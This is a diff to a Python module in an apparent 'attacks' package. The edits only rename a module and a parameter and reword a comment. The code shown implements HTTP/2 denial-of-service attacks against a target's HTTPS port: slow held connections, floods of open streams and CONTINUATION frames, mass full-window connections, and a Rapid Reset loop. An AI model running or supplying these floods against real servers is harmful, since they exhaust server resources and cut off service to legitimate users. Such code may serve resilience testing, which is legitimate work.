@@ -3,14 +3,14 @@
 import struct
 
 from attacks import wire
-from attacks.held import Hold, crowd
+from attacks.exhaustion import Hold, crowd
 
 DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
 END_STREAM, END_HEADERS, ACK = 1, 4, 1
 CANCEL = 8
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-# HPACK: ":method: POST" and ":scheme: https" stand in the static table, so do the names ":path" and
+# HPACK: ":method: POST" and ":scheme: https" are in the static table, and so are the names ":path" and
 # ":authority".
 POST = b"\x83\x87\x04\x07/report\x01\x01c"
 # A field that the table is not to remember: its name and its value, both of one byte.
@@ -103,15 +103,15 @@ class FullWindows(Hold):
         return None if data[3] == HEADERS else b""
 
 
-def slow_h2(crew, target):
+def slow_h2(attackers, target):
     for hold in (Silent, Answering, EndlessHead):
-        crowd(crew, target.https, hold, HELD // 3, processes=1)
-    crowd(crew, target.https, OpenStreams, 100, processes=1)
-    crowd(crew, target.https, Continuations, 8, processes=1)
+        crowd(attackers, target.https, hold, HELD // 3, processes=1)
+    crowd(attackers, target.https, OpenStreams, 100, processes=1)
+    crowd(attackers, target.https, Continuations, 8, processes=1)
 
 
-def full_windows(crew, target):
-    crowd(crew, target.https, FullWindows, 3_000)
+def full_windows(attackers, target):
+    crowd(attackers, target.https, FullWindows, 3_000)
 
 
 def reset_all(tally, port, number):
@@ -136,6 +136,6 @@ def reset_all(tally, port, number):
             link.close()
 
 
-def rapid_reset(crew, target):
+def rapid_reset(attackers, target):
     for number in range(8):
-        crew.add(reset_all, target.https, number)
+        attackers.add(reset_all, target.https, number)
